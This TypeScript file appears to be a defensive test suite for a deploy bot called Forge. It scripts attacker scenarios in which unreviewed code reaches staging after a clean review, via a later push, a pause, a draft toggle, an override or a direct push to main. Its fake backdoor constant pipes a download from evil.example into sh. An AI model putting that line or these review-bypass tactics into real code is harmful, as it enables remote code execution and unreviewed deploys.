import { earnIn } from "../../e2e/earn-level.ts";
import { FAULTY } from "../../e2e/pulls.ts";
import type { Files, Ground, Payload, Seen } from "../program/payload.ts";

const FILE = ".github/workflows/deploy.yml";
const WORKFLOW = `run-name: Deploy \${{ inputs.marker }}
on: { workflow_dispatch: { inputs: { environment: {}, sha: {}, percentage: {}, task: {}, marker: {} } } }
jobs: { deploy: { environment: staging } }
`;
/** Reviews alone are required, so that nothing but the review can hold it up. */
const SETTINGS = `deploy:
  after_merge: staging
  staging: { way: workflow_dispatch, workflow: ${FILE}, steps: [100], requires: [review] }
`;
const BACKDOOR = 'import { exec } from "node:child_process";\nexec("curl -s https://evil.example/x | sh");\n';
const CLEAN = "export const total = (prices) => prices.length;\n";

type Attack = ReturnType<typeof attackOn>;

/** What people do with one pull request of ben, who may push and is the attacker. Ana has her own reasons to help. */
function attackOn({ world, repository }: Ground, number: number) {
  const { github } = world;
  const commit = (branch: string, text: string) =>
    github.commit(repository, branch, { files: { "src/total.js": text }, message: "Change", author: "ben" });
  return {
    push: () => commit("change", BACKDOOR),
    pushToMain: () =>
      github.commit(repository, "main", { files: { "src/run.js": BACKDOOR }, message: "Push", author: "ben" }),
    merge: () => github.mergePullRequest(repository, number, "ben"),
    draft: () => github.convertToDraft(repository, number, "ben"),
    ready: () => github.markReadyForReview(repository, number, "ben"),
    say: async (body: string) => {
      github.comment(repository, number, { by: "ana", body });
      await world.settled();
    },
  };
}

/** Forge may deploy to staging by itself: a person still has to be asked, and told what was not looked at. */
function heldForPeople({ ground: { world, repository }, number }: Seen): string[] {
  const said = world.github.pullRequest(repository, number).comments.map(({ body }) => body);
  const runs = world.github.workflows(repository).runs().length;
  const gate = said.find((body) => body.includes("/forge approve G-1"));
  return [
    ...(runs === 1 ? [] : [`staging was deployed ${runs - 1} times by itself`]),
    ...(said.some((body) => body.startsWith("**Forge deploys")) ? ["it was announced, as what was looked at is"] : []),
    ...(gate?.includes("not looked at as this environment requires") ? [] : ["no gate says that it was not looked at"]),
  ];
}

function merging(name: string, does: string, attack: (at: Attack) => Promise<unknown>, opened = CLEAN): Payload {
  return {
    ...{ name, does, base: { [FILE]: WORKFLOW, ".github/forge.yml": SETTINGS }, faults: heldForPeople },
    strike: async (ground) => {
      const { world, repository } = ground;
      const { github } = world;
      github.createEnvironment(repository, "staging");
      // What runs there is known.
      await github.dispatch(repository, "deploy.yml", "ana", { environment: "staging" });
      const number = await open(ground, { "src/total.js": opened });
      await world.settled();
      await world.write((store) => earnIn(store, 250));
      const at = attackOn(ground, number);
      await at.say("/forge level 3");
      await attack(at);
      await world.settled();
      return number;
    },
  };
}

async function open({ world, repository }: Ground, files: Files): Promise<number> {
  await world.github.commit(repository, "change", { files, message: "Change", author: "ben" });
  return (await world.github.openPullRequest(repository, { title: "Fix the sum", head: "change", by: "ben" })).number;
}

/** Merges of what nobody looked at, where Forge deploys by itself. */
export const MERGES: readonly Payload[] = [
  merging("B1: another head", "pushes after a clean review and merges at once", async (at) => {
    await at.push();
    await at.merge();
  }),
  merging("B1: while Forge is paused", "pauses Forge after a clean review, pushes and merges", async (at) => {
    await at.say("/forge pause");
    await at.push();
    await at.merge();
    await at.say("/forge resume");
  }),
  merging("B1: as a draft", "goes back to draft after a clean review, pushes, is ready and merges", async (at) => {
    await at.draft();
    await at.push();
    await at.ready();
    await at.merge();
  }),
  merging(
    "B1: by an override of the head before",
    "has one head let pass, pushes another one and merges",
    async (at) => {
      await at.say("/forge override forge/review it was looked at");
      await at.push();
      await at.merge();
    },
    FAULTY,
  ),
  merging("B5: with a clean merge", "pushes to the branch, then merges what was found clean", async (at) => {
    await at.pushToMain();
    await at.merge();
  }),
];
